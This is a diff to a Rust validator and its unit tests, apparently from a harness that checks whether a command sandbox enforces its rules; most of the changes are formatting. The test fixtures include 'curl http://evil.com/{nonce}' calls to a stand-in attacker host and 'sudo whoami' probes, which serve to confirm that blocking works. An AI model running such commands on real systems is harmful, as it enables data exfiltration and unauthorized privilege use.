@@ -4,8 +4,8 @@
 //! after ([`integrity`]).
 
 pub mod expectations;
-pub mod records;
 pub mod integrity;
+pub mod records;
 pub mod run;
 pub mod verdict;
 
@@ -245,7 +245,10 @@ fn validate(t: &Test) -> std::result::Result<(), String> {
                 return Err("an enforced test says how the enforcement shows (how = precheck | runtime | file)".into());
             }
             if v == 0 {
-                return Err("an enforced test says what would show the protection failed (violated), or it could never fail".into());
+                return Err(
+                    "an enforced test says what would show the protection failed (violated), or it could never fail"
+                        .into(),
+                );
             }
             if t.control.is_none() && t.no_control.is_none() {
                 return Err("an enforced test has a positive control (control: the action works ungoverned) or says why not (no_control)".into());
@@ -272,7 +275,10 @@ fn validate(t: &Test) -> std::result::Result<(), String> {
             }
         }
     }
-    if t.expect != Expect::Enforced && (t.how.is_some() || t.rule.is_some() || !t.rules.is_empty()) && t.expect != Expect::Decides {
+    if t.expect != Expect::Enforced
+        && (t.how.is_some() || t.rule.is_some() || !t.rules.is_empty())
+        && t.expect != Expect::Decides
+    {
         return Err("rule and how go with expect = \"enforced\"".into());
     }
     if let Some(viol) = &t.violated {
@@ -308,9 +314,16 @@ pub(crate) fn all_text(t: &Test) -> Vec<&str> {
     v.extend(t.setup.iter().map(String::as_str));
     v.extend(t.cleanup.iter().map(String::as_str));
     if let Some(viol) = &t.violated {
-        for s in [&viol.stdout_line, &viol.stdout_contains, &viol.stderr_contains, &viol.file_exists, &viol.path_missing, &viol.fixture_hit]
-            .into_iter()
-            .flatten()
+        for s in [
+            &viol.stdout_line,
+            &viol.stdout_contains,
+            &viol.stderr_contains,
+            &viol.file_exists,
+            &viol.path_missing,
+            &viol.fixture_hit,
+        ]
+        .into_iter()
+        .flatten()
         {
             v.push(s);
         }
@@ -447,7 +460,8 @@ mod tests {
 
     fn one(record: &str) -> std::result::Result<(), String> {
         let dir = tempfile::tempdir().unwrap();
-        std::fs::write(dir.path().join("x.toml"), format!("category = \"c\"\nnumber = 1\n\n[[test]]\n{record}")).unwrap();
+        std::fs::write(dir.path().join("x.toml"), format!("category = \"c\"\nnumber = 1\n\n[[test]]\n{record}"))
+            .unwrap();
         load(dir.path()).map(|_| ()).map_err(|e| format!("{e:#}"))
     }
 
@@ -455,15 +469,24 @@ mod tests {
     fn records_that_could_not_fail_are_refused_with_file_and_line() {
         let base = "id = 1\nname = \"n\"\nchannel = \"shim\"\ncommand = \"sudo whoami\"\nexpect = \"enforced\"\nrule = \"r\"\nhow = \"precheck\"\ncontrol = \"sudo -n whoami\"\n";
         assert!(one(&format!("{base}violated = {{ stdout_line = \"root\" }}\n")).is_ok());
-        let e = one(&format!("{}violated = {{ stdout_line = \"root\" }}\n", base.replace("control = \"sudo -n whoami\"\n", ""))).unwrap_err();
+        let e = one(&format!(
+            "{}violated = {{ stdout_line = \"root\" }}\n",
+            base.replace("control = \"sudo -n whoami\"\n", "")
+        ))
+        .unwrap_err();
         assert!(e.contains("positive control"), "{e}");
         let e = one(base).unwrap_err();
         assert!(e.contains("x.toml:4: test 1") && e.contains("could never fail"), "{e}");
-        let e = one("id = 2\nname = \"n\"\nchannel = \"shim\"\ncommand = \"echo hi\"\nexpect = \"allowed\"\n").unwrap_err();
+        let e =
+            one("id = 2\nname = \"n\"\nchannel = \"shim\"\ncommand = \"echo hi\"\nexpect = \"allowed\"\n").unwrap_err();
         assert!(e.contains("asserts its output"), "{e}");
-        let e = one("id = 3\nname = \"n\"\nchannel = \"api\"\ncommand = \"echo hi\"\nexpect = \"allowed\"\noutput = \"hi\"\n").unwrap_err();
+        let e = one(
+            "id = 3\nname = \"n\"\nchannel = \"api\"\ncommand = \"echo hi\"\nexpect = \"allowed\"\noutput = \"hi\"\n",
+        )
+        .unwrap_err();
         assert!(e.contains("takes argv"), "{e}");
-        let no_control = base.replace("id = 1", "id = 4").replace("control = \"sudo -n whoami\"\n", "no_control = \"x\"\n");
+        let no_control =
+            base.replace("id = 1", "id = 4").replace("control = \"sudo -n whoami\"\n", "no_control = \"x\"\n");
         let e = one(&format!("{no_control}violated = {{ fixture_hit = \"{{nonce}}\" }}\n")).unwrap_err();
         assert!(e.contains("fixture_hit test has a positive control"), "{e}");
         let e = one("id = 5\nname = \"n\"\nchannel = \"shim\"\ncommand = \"echo {noncee}\"\nexpect = \"allowed\"\noutput = \"x\"\n").unwrap_err();
@@ -474,10 +497,14 @@ mod tests {
     fn a_fixture_path_another_test_requests_is_refused() {
         let enforced = "name = \"n\"\nchannel = \"shim\"\nexpect = \"enforced\"\nrule = \"r\"\nhow = \"runtime\"\ncontrol = \"curl http://evil.com/control-{nonce}\"\n";
         let allowed = "[[test]]\nid = 2\nname = \"a\"\nchannel = \"shim\"\ncommand = \"curl https://registry.npm.test/{nonce}\"\nexpect = \"allowed\"\noutput = \"x\"\n";
-        let shared = format!("id = 1\n{enforced}command = \"curl http://evil.com/{{nonce}}\"\nviolated = {{ fixture_hit = \"/{{nonce}}\" }}\n\n{allowed}");
+        let shared = format!(
+            "id = 1\n{enforced}command = \"curl http://evil.com/{{nonce}}\"\nviolated = {{ fixture_hit = \"/{{nonce}}\" }}\n\n{allowed}"
+        );
         let e = one(&shared).unwrap_err();
         assert!(e.contains("also appears in test 2"), "{e}");
-        let own = format!("id = 1\n{enforced}command = \"curl http://evil.com/t1-{{nonce}}\"\nviolated = {{ fixture_hit = \"/t1-{{nonce}}\" }}\n\n{allowed}");
+        let own = format!(
+            "id = 1\n{enforced}command = \"curl http://evil.com/t1-{{nonce}}\"\nviolated = {{ fixture_hit = \"/t1-{{nonce}}\" }}\n\n{allowed}"
+        );
         assert!(one(&own).is_ok(), "{:?}", one(&own));
     }
 
